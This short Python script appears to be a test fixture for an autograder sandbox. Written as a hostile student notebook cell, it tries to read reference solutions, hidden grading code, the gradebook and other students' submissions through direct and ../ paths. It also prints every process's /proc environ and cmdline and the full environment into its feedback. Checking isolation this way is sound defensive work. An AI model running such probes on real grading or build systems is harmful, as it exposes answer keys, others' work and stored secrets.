# Hostile notebook cell: reads what a student must never see and prints it into its own feedback.
import glob
import os

for path in ["@REPO@/autograder/labs/lab1_retrieval/reference.py", "@REPO@/autograder/grading/hidden.py",
             "@REPO@/autograder/course/source/lab1_retrieval/lab1_retrieval.ipynb", "@OUT@/gradebook.db",
             "../../../gradebook.db", "../../../source/lab1_retrieval/lab1_retrieval.ipynb", "notes.txt",
             "course/reference/lab1.py", "@REPO@/models/mnist_triplet.pt"]:
    try:
        print("READ", path, open(path, "rb").read()[:400])
    except Exception as error:
        print("DENIED", path, type(error).__name__)
print("OTHERS", glob.glob("@SUBMISSIONS@/*"), glob.glob("@OUT@/work/*"), glob.glob("../../../*/*"))
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for name in ("environ", "cmdline"):
        try:
            print("PROC", pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:3000])
        except Exception as error:
            print("NOPROC", pid, name, type(error).__name__)
try:
    import autograder.labs.lab1_retrieval.reference as reference
    print("IMPORTED", open(reference.__file__).read()[:400])
except Exception as error:
    print("NOIMPORT", type(error).__name__)
print("MYENV", dict(os.environ))
